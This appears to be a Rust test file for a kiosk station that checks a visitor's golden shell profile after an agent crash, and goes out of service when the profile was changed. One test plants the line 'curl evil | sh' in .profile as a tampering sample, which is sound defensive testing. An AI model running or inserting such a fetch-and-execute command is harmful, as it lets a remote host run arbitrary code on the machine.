//! The golden profile, compared by an agent that was not there when the session started.

use std::fs;
use std::path::PathBuf;

use epn_wire::kiosk::Scene;
use epn_wire::report::StepOutcome;
use epn_wire::station::{OutOfService, StationEvent};

use super::hub::{Hub, until};
use super::station::Station;

/// A station whose agent died while a visitor worked, and its golden profile.
async fn died_with_a_session(hub: &Hub, uid: u32) -> (Station, PathBuf) {
    let mut station = Station::paired(hub, uid);
    let profile = station.path("golden");
    fs::create_dir(&profile).unwrap();
    fs::write(profile.join(".profile"), "umask 022").unwrap();
    station.visitor = format!("{}\nhome_golden = \"{}\"", station.visitor, profile.display());
    station.start("crash_after_step = \"active\"");
    station.see_locked().await;
    station.log_in().await;
    assert!(!station.ended().await.success());
    (station, profile)
}

/// What the resets that the hub knows say of the golden profile.
fn compared(hub: &Hub) -> Vec<StepOutcome> {
    let resets = hub.known().all().into_iter().filter_map(|event| match event {
        StationEvent::Reset { report, .. } => Some(report),
        _ => None,
    });
    let steps = resets.flat_map(|report| report.steps);
    steps.filter(|step| step.name == "golden-profile").map(|step| step.outcome).collect()
}

#[tokio::test]
async fn the_next_agent_compares_it_with_what_the_session_started_from() {
    let hub = Hub::start().await;
    let (mut station, profile) = died_with_a_session(&hub, 61_046).await;
    station.start("");
    station.see_locked().await;
    until("both resets are known", || compared(&hub).len() == 2).await;
    let outcomes = compared(&hub);
    assert!(matches!(outcomes[..], [StepOutcome::NotApplicable { .. }, StepOutcome::Proved]), "{outcomes:?}");
    // Proved gone: a profile that is changed between sessions is nobody's leftover.
    station.kill();
    fs::write(profile.join(".profile"), "umask 077").unwrap();
    station.start("");
    station.see_locked().await;
}

#[tokio::test]
async fn a_profile_that_was_changed_meanwhile_keeps_everybody_out() {
    let hub = Hub::start().await;
    let (mut station, profile) = died_with_a_session(&hub, 61_015).await;
    fs::write(profile.join(".profile"), "curl evil | sh").unwrap();
    station.start("");
    let left = OutOfService::Leftovers { count: 1 };
    station
        .see(
            "out of service",
            |view| matches!(&view.scene, Scene::OutOfService { reason } if *reason == left),
        )
        .await;
}
